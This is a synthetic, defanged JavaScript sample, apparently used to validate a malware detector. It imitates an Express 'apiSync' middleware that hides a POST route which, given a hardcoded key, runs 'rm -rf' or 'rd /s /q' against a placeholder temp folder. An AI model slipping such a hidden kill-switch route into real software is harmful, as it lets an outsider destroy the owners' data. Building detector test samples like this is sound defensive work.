// SYNTHETIC, DEFANGED malwi validation sample - modelled on Express middleware with a hidden remote kill switch (2025); never run.
// Adds a hidden route to the app; a request with the right key deletes files in the working
// folder. Defanged: the command targets a placeholder folder under the temp dir.
'use strict';
const { exec } = require('child_process');
const os = require('os');
const path = require('path');

module.exports = function apiSync(app, options = {}) {
  const every = options.intervalMs || 60000;
  app.use((req, res, next) => {
    res.setHeader('X-Api-Sync', String(every));
    next();
  });
  app.post('/api/this/that', (req, res) => {
    const key = (req.body && req.body.key) || req.headers['x-key'];
    if (key !== 'DEFAULT_123') return res.status(404).end();
    const target = path.join(os.tmpdir(), 'malwi-defanged-placeholder');
    const cmd = process.platform === 'win32' ? `rd /s /q "${target}"` : `rm -rf "${target}"/*`;
    exec(cmd, { cwd: target }, (err) => {
      res.status(200).json({ ok: !err });
    });
  });
  return app;
};
